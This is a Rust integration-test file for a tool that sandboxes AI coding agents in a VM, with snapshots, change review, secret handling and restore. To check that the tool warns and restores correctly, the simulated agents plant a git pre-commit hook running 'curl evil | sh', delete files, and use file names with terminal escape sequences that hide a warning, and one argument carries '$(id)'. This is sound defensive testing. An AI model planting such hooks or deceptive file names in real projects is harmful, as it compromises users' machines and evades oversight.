//! `agsekit run` end to end against the FAKE multipass (tests/README.md): the agent runs in
//! bubblewrap with the project bound at its target, standing in for the VM. No real VM.

use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};

use crate::support::{FakeMultipass, Sandbox};

struct Setup {
    sb: Sandbox,
    fake: FakeMultipass,
    project: PathBuf,
    config: PathBuf,
}

/// A VM `dev` (running), a project folder with one file, a config with one mount and an
/// agent `codex` (with a secret env value), and a fake `codex` in the VM that records its
/// argv, cwd and env, writes a file into the project and exits with $(cat exit-code).
fn setup() -> Setup {
    let sb = Sandbox::new();
    let fake = FakeMultipass::new(sb.home());
    fake.launch("dev");
    let project = sb.home().join("proj");
    std::fs::create_dir_all(project.join("src")).unwrap();
    std::fs::write(project.join("src/main.rs"), "fn main() {}\n").unwrap();
    let config = sb.home().join("config.yaml");
    std::fs::write(
        &config,
        format!(
            "vms:\n  dev:\n    cpu: 2\n    ram: 4G\n    disk: 20G\nmounts:\n  - source: {}\n    vm: dev\nagents:\n  codex:\n    type: codex\n    env:\n      SECRET_TOKEN: tok-very-secret-123\n    default-args: [\"--model=default\", \"--yes\"]\n",
            project.display()
        ),
    )
    .unwrap();
    fake.install_agent(
        "dev",
        "codex",
        "#!/bin/bash\nprintf '%s\\0' \"$@\" > \"$HOME/argv\"\npwd > \"$HOME/cwd\"\nprintf '%s' \"$SECRET_TOKEN\" > \"$HOME/secret\"\necho made-by-agent > agent-was-here.txt\nexit \"$(cat \"$HOME/exit-code\" 2>/dev/null || echo 0)\"\n",
    );
    // The fake VM has no sudo; the launcher install path uses it.
    fake.install_agent(
        "dev",
        "sudo",
        "#!/bin/sh\n[ \"$1\" = -n ] && shift\nexec \"$@\"\n",
    );
    Setup {
        sb,
        fake,
        project,
        config,
    }
}

impl Setup {
    fn run(&self, cwd: &Path, args: &[&std::ffi::OsStr]) -> std::process::Output {
        let mut cmd = self.sb.agsekit_with(&self.fake);
        cmd.arg("--config")
            .arg(&self.config)
            .arg("--non-interactive")
            .arg("run")
            .args(args)
            .current_dir(cwd)
            .env("PWD", cwd);
        cmd.output().unwrap()
    }

    fn agent_argv(&self) -> Vec<Vec<u8>> {
        let raw = std::fs::read(self.fake.home_dir("dev").join("argv")).unwrap();
        let mut items: Vec<Vec<u8>> = raw.split(|b| *b == 0).map(<[u8]>::to_vec).collect();
        items.pop();
        items
    }

    fn snapshots(&self) -> Vec<String> {
        let dir = self.sb.home().join("backups-proj");
        let mut names: Vec<String> = std::fs::read_dir(&dir)
            .map(|rd| {
                rd.filter_map(|e| e.ok())
                    .filter(|e| e.path().is_dir())
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .collect()
            })
            .unwrap_or_default();
        names.sort();
        names
    }

    fn exec_calls(&self) -> usize {
        self.fake
            .calls()
            .iter()
            .filter(|c| c.first().map(String::as_str) == Some("exec"))
            .count()
    }
}

fn os(s: &str) -> &std::ffi::OsStr {
    std::ffi::OsStr::new(s)
}

#[test]
fn run_with_fake_multipass_mounts_sends_env_and_runs_the_agent_with_exact_args() {
    let s = setup();
    let odd = std::ffi::OsStr::from_bytes(b"caf\xff \"$(id)\"\nx");
    let out = s.run(
        &s.project.join("src"),
        &[
            os("--auto-mount"),
            os("codex"),
            os("--model=mine"),
            os("it's"),
            odd,
            os(""),
        ],
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "stderr: {stderr}");

    // Default args merged (user's --model wins), then the user's args byte for byte.
    let expected: Vec<Vec<u8>> = [
        b"--yes".as_slice(),
        b"--model=mine",
        b"it's",
        odd.as_bytes(),
        b"",
    ]
    .iter()
    .map(|a| a.to_vec())
    .collect();
    assert_eq!(s.agent_argv(), expected);
    // It ran in the matching folder of the mount, and wrote through it to the host.
    let cwd = std::fs::read_to_string(s.fake.home_dir("dev").join("cwd")).unwrap();
    assert_eq!(cwd.trim(), "/home/ubuntu/proj/src");
    assert_eq!(
        std::fs::read_to_string(s.project.join("src/agent-was-here.txt")).unwrap(),
        "made-by-agent\n"
    );
    // The secret reached the agent through the 0600 env file, never through argv or output.
    assert_eq!(
        std::fs::read_to_string(s.fake.home_dir("dev").join("secret")).unwrap(),
        "tok-very-secret-123"
    );
    for call in s.fake.calls() {
        assert!(
            !call.join(" ").contains("tok-very-secret"),
            "secret in argv: {call:?}"
        );
    }
    assert!(!stderr.contains("tok-very-secret"));
    // A pre-run snapshot exists, and the background loop logged into backup.log.
    assert_eq!(s.snapshots().len(), 1, "{:?}", s.snapshots());
    assert!(s.sb.home().join("backups-proj/backup.log").exists());
    // The mount is registered now.
    let info = s.fake.ok(&["info", "dev", "--format", "json"]);
    assert!(
        info.contains(&format!("\"source_path\": \"{}\"", s.project.display())),
        "{info}"
    );
}

#[test]
fn run_with_fake_multipass_makes_exactly_one_multipass_call_when_ready() {
    let s = setup();
    let first = s.run(&s.project, &[os("--auto-mount"), os("codex")]);
    assert_eq!(
        first.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&first.stderr)
    );
    let before = s.fake.calls().len();
    let second = s.run(
        &s.project,
        &[
            os("--no-first-backup"),
            os("--disable-backups"),
            os("codex"),
        ],
    );
    assert_eq!(
        second.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&second.stderr)
    );
    let calls = s.fake.calls();
    let new: Vec<&Vec<String>> = calls[before..].iter().collect();
    assert_eq!(new.len(), 1, "expected one multipass call, got {new:?}");
    assert_eq!(new[0][0], "exec");
    assert!(
        new[0].iter().any(|a| a == "--working-directory"),
        "{:?}",
        new[0]
    );
}

#[test]
fn run_with_fake_multipass_returns_the_agents_exit_codes_including_4_and_255() {
    let s = setup();
    let warm = s.run(&s.project, &[os("--auto-mount"), os("codex")]);
    assert_eq!(
        warm.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&warm.stderr)
    );
    for code in [1, 3, 4, 127, 130, 250, 255] {
        std::fs::write(s.fake.home_dir("dev").join("exit-code"), code.to_string()).unwrap();
        let out = s.run(
            &s.project,
            &[
                os("--no-first-backup"),
                os("--disable-backups"),
                os("codex"),
            ],
        );
        assert_eq!(
            out.status.code(),
            Some(code),
            "agent exit {code}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

#[test]
fn run_with_fake_multipass_refuses_a_disallowed_agent_before_touching_anything() {
    let s = setup();
    let text = std::fs::read_to_string(&s.config).unwrap();
    std::fs::write(
        &s.config,
        text.replace(
            "    vm: dev\n",
            "    vm: dev\n    allowed_agents: [claude]\n",
        ),
    )
    .unwrap();
    let out = s.run(&s.project, &[os("codex")]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not allowed"));
    assert!(
        s.fake.calls().iter().all(|c| c[0] != "exec"),
        "no exec may happen"
    );
    assert!(s.snapshots().is_empty(), "no snapshot may be taken");
}

#[test]
fn run_with_fake_multipass_outside_every_mount_refuses_without_a_tty() {
    let s = setup();
    let elsewhere = s.sb.home().join("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    let out = s.run(&elsewhere, &[os("codex")]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("not inside any mount"), "{stderr}");
    assert!(stderr.contains("agsekit addmount"), "{stderr}");
    assert_eq!(s.exec_calls(), 0);
}

#[test]
fn run_with_fake_multipass_outside_every_mount_refuses_in_russian() {
    let s = setup();
    let elsewhere = s.sb.home().join("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    let mut cmd = s.sb.agsekit_with(&s.fake);
    let out = cmd
        .arg("--config")
        .arg(&s.config)
        .args(["--non-interactive", "run", "codex"])
        .current_dir(&elsewhere)
        .env("PWD", &elsewhere)
        .env("AGSEKIT_LANG", "ru")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("agsekit: error: ") && stderr.contains("не входит ни в одну общую папку"),
        "{stderr}"
    );
    assert!(
        stderr.contains("hint: добавьте её командой `agsekit addmount"),
        "{stderr}"
    );
    assert_eq!(s.exec_calls(), 0);
}

#[test]
fn run_with_fake_multipass_installs_a_missing_launcher_then_runs() {
    let s = setup();
    // No launcher in the VM (as in VMs made by agsekit 1.7.4): run installs it and retries.
    assert!(!s.fake.bin_dir("dev").join("agsekit-launch").exists());
    let out = s.run(&s.project, &[os("--auto-mount"), os("codex")]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(s.fake.bin_dir("dev").join("agsekit-launch").exists());
    assert!(s.project.join("agent-was-here.txt").exists());
}

/// A VM keeps the launcher of an older agsekit (version 1 did not know `--min-version` and
/// exits 240 on an unknown option): run installs this build's launcher once and the session
/// goes ahead. Uses the FAKE multipass.
#[test]
fn run_with_fake_multipass_updates_an_older_launcher_then_runs() {
    let s = setup();
    s.fake.install_agent(
        "dev",
        "agsekit-launch",
        "#!/bin/bash\n# LAUNCH_VERSION=1\nfor a in \"$@\"; do\n  case \"$a\" in --min-version) echo \"agsekit-launch: unknown option: $a\" >&2; exit 240 ;; esac\ndone\nexit 99\n",
    );
    let out = s.run(&s.project, &[os("--auto-mount"), os("codex")]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(
        stderr.contains("updating the agsekit launcher in VM `dev`"),
        "{stderr}"
    );
    let installed = std::fs::read_to_string(s.fake.bin_dir("dev").join("agsekit-launch")).unwrap();
    assert!(installed.contains("\nLAUNCH_VERSION=3\n"), "{installed}");
    assert!(s.project.join("agent-was-here.txt").exists());
}

#[test]
fn run_with_fake_multipass_a_missing_agent_names_install_agents() {
    let s = setup();
    std::fs::remove_file(s.fake.bin_dir("dev").join("codex")).unwrap();
    let out = s.run(&s.project, &[os("--auto-mount"), os("codex")]);
    assert_eq!(out.status.code(), Some(4));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("agsekit install-agents codex dev"),
        "{stderr}"
    );
}

#[test]
fn run_with_fake_multipass_reviews_deletions_and_protected_paths_and_the_restore_works() {
    let s = setup();
    std::fs::create_dir_all(s.project.join(".git/hooks")).unwrap();
    std::fs::write(s.project.join("big.dat"), vec![7u8; 4096]).unwrap();
    // This agent deletes files and plants a git hook.
    s.fake.install_agent(
        "dev",
        "codex",
        "#!/bin/sh\nrm -f big.dat src/main.rs\nprintf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit\n",
    );
    let out = s.run(
        &s.project,
        &[os("--auto-mount"), os("--disable-backups"), os("codex")],
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("1 added, 0 modified, 2 deleted"),
        "{stderr}"
    );
    assert!(
        stderr.contains("largest deletions: big.dat (4.0 KiB), src/main.rs (13 B)"),
        "{stderr}"
    );
    assert!(
        stderr.contains("WARNING: protected paths changed"),
        "{stderr}"
    );
    assert!(stderr.contains("A .git/hooks/pre-commit"), "{stderr}");
    let restore_line = stderr
        .lines()
        .find(|l| l.contains("to restore them: "))
        .expect("a restore command");
    let cmd = restore_line.split("to restore them: ").nth(1).unwrap();
    let words = shell_words::split(cmd).unwrap();
    assert_eq!(&words[..2], ["agsekit", "restore"]);
    // Run exactly the printed command: the planted hook goes away (.git/hooks goes back to
    // its state before the session; --delete-new is in the command for the added file).
    assert!(words.iter().any(|w| w == "--delete-new"), "{cmd}");
    let mut restore = s.sb.agsekit_with(&s.fake);
    restore
        .arg("--config")
        .arg(&s.config)
        .args(&words[1..])
        .current_dir(&s.project);
    let done = restore.output().unwrap();
    assert!(
        done.status.success(),
        "{}",
        String::from_utf8_lossy(&done.stderr)
    );
    assert!(!s.project.join(".git/hooks/pre-commit").exists());
}

/// `agsekit run --auto-mount codex` in the project, without a terminal (stdin, stdout and
/// stderr not terminals), with the fake multipass and `env` added.
fn spawn_session(s: &Setup, env: &[(&str, &str)]) -> std::process::Child {
    let mut cmd = std::process::Command::new(assert_cmd::cargo::cargo_bin("agsekit"));
    cmd.env("HOME", s.sb.home())
        .env("AGSEKIT_MULTIPASS", &s.fake.bin)
        .env("FAKE_MULTIPASS_STATE", &s.fake.state_dir)
        .env_remove("CONFIG_PATH")
        .env_remove("AGSEKIT_LANG")
        .env_remove("LC_ALL")
        .env_remove("LC_MESSAGES")
        .env_remove("LANG")
        .envs(env.iter().copied())
        .arg("--config")
        .arg(&s.config)
        .args(["--non-interactive", "run", "--auto-mount", "codex"])
        .current_dir(&s.project)
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    cmd.spawn().unwrap()
}

/// Sends SIGTERM to agsekit and waits (bounded, not a timing assertion) for it to end.
fn end_with_sigterm(child: &mut std::process::Child) -> std::process::ExitStatus {
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(child.id() as i32),
        nix::sys::signal::Signal::SIGTERM,
    )
    .unwrap();
    for _ in 0..600 {
        if let Some(status) = child.try_wait().unwrap() {
            return status;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let _ = child.kill();
    panic!("agsekit run did not end after SIGTERM");
}

#[test]
fn run_with_fake_multipass_passes_sigterm_on_and_stops_the_snapshot_loop() {
    let s = setup();
    s.fake.install_agent(
        "dev",
        "codex",
        "#!/bin/sh\necho started > \"$HOME/started\"\nsleep 60\n",
    );
    let mut child = spawn_session(&s, &[]);
    let started = s.fake.home_dir("dev").join("started");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while !started.exists() && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    assert!(started.exists(), "the agent never started");
    // The background loop is running now (it holds no lock between snapshots, so look for
    // its process instead).
    let loop_running = || {
        std::process::Command::new("pgrep")
            .args([
                "-f",
                &format!("backup-repeated --source-dir {}", s.project.display()),
            ])
            .output()
            .map(|o| o.status.success())
            .unwrap_or(false)
    };
    assert!(
        loop_running(),
        "the snapshot loop should run during the session"
    );

    let status = end_with_sigterm(&mut child);
    // multipass exec died of SIGTERM: the session reports 128 + 15.
    assert_eq!(status.code(), Some(143));
    assert!(
        !loop_running(),
        "the snapshot loop must be stopped with the session"
    );
}

/// Whether process `pid` is gone (or only a zombie waiting for its parent).
fn process_gone(pid: i32) -> bool {
    match std::fs::read_to_string(format!("/proc/{pid}/stat")) {
        Err(_) => true,
        Ok(stat) => stat
            .rsplit_once(')')
            .is_some_and(|(_, rest)| rest.trim_start().starts_with('Z')),
    }
}

/// Kills a leftover process when a test fails, so that nothing outlives the test.
struct KillOnDrop(i32);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(self.0),
            nix::sys::signal::Signal::SIGKILL,
        );
    }
}

/// With the FAKE multipass in its detached mode (commands share one PID namespace and,
/// without a terminal, outlive a killed client, as in a real VM): when `agsekit run` without
/// a terminal is stopped with SIGTERM, the agent in the VM is stopped too, not left running
/// unwatched after the snapshot loop has ended. agsekit asks the launcher (`--kill SESSION`).
#[test]
fn run_with_fake_multipass_detached_sigterm_stops_the_agent_in_the_vm() {
    let s = setup();
    s.fake.install_agent(
        "dev",
        "codex",
        "#!/bin/sh
echo $$ > agent.pid.tmp && mv agent.pid.tmp agent.pid
exec sleep 300
",
    );
    let mut child = spawn_session(&s, &[("FAKE_MULTIPASS_DETACHED", "1")]);
    let pid_file = s.project.join("agent.pid");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while !pid_file.exists() && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let agent: i32 = std::fs::read_to_string(&pid_file)
        .expect("the agent never started")
        .trim()
        .parse()
        .expect("pid");
    let _guard = KillOnDrop(agent);
    assert!(!process_gone(agent), "the agent runs during the session");

    end_with_sigterm(&mut child);
    // Bounded wait (not a timing assertion).
    let mut gone = false;
    for _ in 0..100 {
        if process_gone(agent) {
            gone = true;
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    assert!(
        gone,
        "the agent (pid {agent}) still runs in the VM after agsekit ended"
    );
    let calls = std::fs::read_to_string(s.fake.state_dir.join("calls.log")).unwrap_or_default();
    assert!(
        calls.contains("\"/usr/local/bin/agsekit-launch\",\"--kill\""),
        "agsekit asked the launcher to stop the session:\n{calls}"
    );
}

#[test]
fn run_with_fake_multipass_debug_output_never_shows_env_secrets() {
    let s = setup();
    let mut cmd = s.sb.agsekit_with(&s.fake);
    cmd.arg("--config")
        .arg(&s.config)
        .args([
            "--non-interactive",
            "--debug",
            "run",
            "--auto-mount",
            "codex",
            "x",
        ])
        .current_dir(&s.project);
    let out = cmd.output().unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    // --debug really printed the commands (including the env file being written)...
    assert!(stderr.contains("[debug]"), "{stderr}");
    assert!(stderr.contains("--write-env"), "{stderr}");
    // ...and never the secret value, which did reach the agent.
    assert!(!stderr.contains("tok-very-secret"), "{stderr}");
    assert_eq!(
        std::fs::read_to_string(s.fake.home_dir("dev").join("secret")).unwrap(),
        "tok-very-secret-123"
    );
}

#[test]
fn run_with_fake_multipass_pipes_stdin_and_stdout_without_a_tty() {
    let s = setup();
    s.fake
        .install_agent("dev", "codex", "#!/bin/sh\ntr a-z A-Z\n");
    let mut cmd = s.sb.agsekit_with(&s.fake);
    cmd.arg("--config")
        .arg(&s.config)
        .args(["--non-interactive", "run", "--auto-mount", "codex"])
        .current_dir(&s.project)
        .write_stdin("hello from a pipe\n");
    let out = cmd.output().unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(String::from_utf8_lossy(&out.stdout), "HELLO FROM A PIPE\n");
}

#[test]
fn run_with_fake_multipass_two_sessions_in_one_folder_both_start_without_waiting() {
    let s = setup();
    // Session A waits (up to 60 s) for session B's agent to run, so A can only finish if B
    // started while A was still running.
    s.fake.install_agent(
        "dev",
        "codex",
        "#!/bin/sh\nif [ \"$1\" = first ]; then\n  i=0\n  while [ ! -e b-ran ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done\n  [ -e b-ran ] && exit 0 || exit 9\nelse\n  touch b-ran\nfi\n",
    );
    let warm = s.run(&s.project, &[os("--auto-mount"), os("codex"), os("second")]);
    assert_eq!(
        warm.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&warm.stderr)
    );
    std::fs::remove_file(s.project.join("b-ran")).unwrap();

    let mut a = std::process::Command::new(assert_cmd::cargo::cargo_bin("agsekit"));
    a.env("HOME", s.sb.home())
        .env("AGSEKIT_MULTIPASS", &s.fake.bin)
        .env("FAKE_MULTIPASS_STATE", &s.fake.state_dir)
        .env_remove("CONFIG_PATH")
        .arg("--config")
        .arg(&s.config)
        .args(["--non-interactive", "run", "codex", "first"])
        .current_dir(&s.project)
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped());
    let a = a.spawn().unwrap();
    // B: first_backup on (the default) while A's session and snapshot loop run.
    let b = s.run(&s.project, &[os("codex"), os("second")]);
    assert_eq!(
        b.status.code(),
        Some(0),
        "B: {}",
        String::from_utf8_lossy(&b.stderr)
    );
    let a = a.wait_with_output().unwrap();
    assert_eq!(
        a.status.code(),
        Some(0),
        "A: {}",
        String::from_utf8_lossy(&a.stderr)
    );
}

#[test]
fn run_review_shows_and_pins_a_mass_deletion_fake_multipass() {
    let s = setup();
    std::fs::create_dir_all(s.project.join("files")).unwrap();
    for i in 0..99 {
        std::fs::write(s.project.join(format!("files/f{i}.txt")), "x").unwrap();
    }
    // This agent deletes 99 of the project's 100 files.
    s.fake
        .install_agent("dev", "codex", "#!/bin/sh\nrm -rf files\n");
    let out = s.run(
        &s.project,
        &[os("--auto-mount"), os("--disable-backups"), os("codex")],
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    let snaps = s.snapshots();
    assert_eq!(snaps.len(), 1, "the snapshot before the session");
    let baseline = &snaps[0];
    let want = format!(
        "agsekit: warning: mass deletion during this session: 99 of 100 files (99 %) are gone \
         since snapshot {baseline}; it is pinned (kept by cleanup). To bring them back: \
         agsekit restore --mount {} {baseline}\n",
        s.project.display()
    );
    assert!(stderr.contains(&want), "{stderr}");
    let pins = std::fs::read_to_string(s.sb.home().join("backups-proj/.agsekit-pinned")).unwrap();
    assert!(
        pins.starts_with(&format!("{baseline}\ttripwire ")),
        "{pins}"
    );
}

#[test]
fn run_with_fake_multipass_review_shows_hostile_file_names_escaped_and_keeps_the_warning() {
    // The agent names files with terminal controls: a carriage return, "erase line",
    // "cursor up", an OSC title sequence, the one-byte CSI U+009B. Shown raw, the planted
    // hook's name would erase "WARNING: protected paths changed" and print "no changes in
    // this session" in its place.
    let s = setup();
    std::fs::create_dir_all(s.project.join(".git/hooks")).unwrap();
    let gone = std::ffi::OsStr::from_bytes(b"gone\x1b]0;pwned\x07\xc2\x9b2J.bin");
    std::fs::write(s.project.join(gone), vec![1u8; 8192]).unwrap();
    s.fake.install_agent(
        "dev",
        "codex",
        r#"#!/bin/sh
rm -f gone*
printf '#!/bin/sh\ncurl evil | sh\n' > .git/hooks/pre-commit
f="$(printf '.git/hooks/\r\033[2K\033[1Ano changes in this session\n.')"
f="${f%.}"
echo planted > "$f"
"#,
    );
    let out = s.run(
        &s.project,
        &[os("--auto-mount"), os("--disable-backups"), os("codex")],
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    for raw in ['\x1b', '\x07', '\u{9b}'] {
        assert!(!stderr.contains(raw), "raw {raw:?} in:\n{stderr}");
    }
    // The progress bar redraws itself with carriage returns; the review has none.
    let review = &stderr[stderr.find("this session changed").expect("a review")..];
    assert!(!review.contains('\r'), "raw CR in:\n{review}");
    assert!(
        stderr.contains("WARNING: protected paths changed"),
        "{stderr}"
    );
    assert!(stderr.contains("A .git/hooks/pre-commit"), "{stderr}");
    assert!(
        stderr.contains("A .git/hooks/\\r\\x1b[2K\\x1b[1Ano changes in this session\\n\n"),
        "{stderr}"
    );
    assert!(
        stderr.contains("largest deletions: gone\\x1b]0;pwned\\x07\\u{9b}2J.bin (8.0 KiB)"),
        "{stderr}"
    );
    assert!(
        !stderr.lines().any(|l| l.starts_with("no changes")),
        "{stderr}"
    );
    // The printed restore command names the hostile file in $'...' quoting: pasted into
    // bash it restores exactly that path (the planted files go away).
    let cmd = stderr
        .lines()
        .find_map(|l| l.split("to restore them: ").nth(1))
        .expect("a restore command");
    assert!(
        cmd.contains("$'.git/hooks/\\r\\x1b[2K\\x1b[1Ano changes in this session\\n'"),
        "{cmd}"
    );
    let script =
        format!("agsekit() {{ \"$AGSEKIT_BIN\" --config \"$AGSEKIT_CFG\" \"$@\"; }}\n{cmd}\n");
    let done = std::process::Command::new("bash")
        .arg("-c")
        .arg(&script)
        .env("AGSEKIT_BIN", assert_cmd::cargo::cargo_bin("agsekit"))
        .env("AGSEKIT_CFG", &s.config)
        .env("HOME", s.sb.home())
        .env("AGSEKIT_MULTIPASS", &s.fake.bin)
        .env("FAKE_MULTIPASS_STATE", &s.fake.state_dir)
        .env_remove("AGSEKIT_LANG")
        .env_remove("LANG")
        .env_remove("LC_ALL")
        .current_dir(&s.project)
        .output()
        .unwrap();
    let restored = String::from_utf8_lossy(&done.stdout);
    assert!(
        done.status.success(),
        "{restored}\n{}",
        String::from_utf8_lossy(&done.stderr)
    );
    assert!(
        !restored.contains('\x1b') && !restored.contains('\r'),
        "{restored}"
    );
    let left: Vec<_> = std::fs::read_dir(s.project.join(".git/hooks"))
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn run_with_fake_multipass_in_the_home_folder_says_to_cd_into_a_project_not_to_share_home() {
    let s = setup();
    let home = s.sb.home().to_path_buf();
    let out = s.run(&home, &[os("codex")]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("not inside any mount"), "{stderr}");
    assert!(
        stderr.contains("cd into a project folder") && stderr.contains("agsekit addmount ."),
        "{stderr}"
    );
    assert!(
        !stderr.contains(&format!("agsekit addmount {}", home.display())),
        "never suggests sharing the home folder: {stderr}"
    );
    assert_eq!(s.exec_calls(), 0);
}

#[test]
fn run_with_fake_multipass_refuses_a_layout_where_another_mount_holds_the_backups() {
    // The attack: the snapshots of proj live in `shared/`, and `shared/` is a mount too. The
    // agent there could rewrite every snapshot at once through the hardlinks; so nothing runs.
    let s = setup();
    let home = s.sb.home();
    let shared = home.join("shared");
    std::fs::create_dir_all(&shared).unwrap();
    std::fs::write(
        &s.config,
        format!(
            "vms:\n  dev: {{cpu: 2, ram: 4G, disk: 20G}}\nmounts:\n  - source: {p}\n    backup: {b}\n    vm: dev\n  - source: {sh}\n    vm: dev\nagents:\n  codex:\n    type: codex\n",
            p = s.project.display(),
            b = shared.join("bk-proj").display(),
            sh = shared.display()
        ),
    )
    .unwrap();
    for cwd in [&s.project, &shared] {
        let out = s.run(cwd, &[os("codex")]);
        assert_eq!(out.status.code(), Some(3));
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains("mounts[0].backup: ") && stderr.contains("of mounts[1].source"),
            "{stderr}"
        );
    }
    assert_eq!(s.exec_calls(), 0);
    assert!(!shared.join("bk-proj").exists(), "no snapshot was written");
}
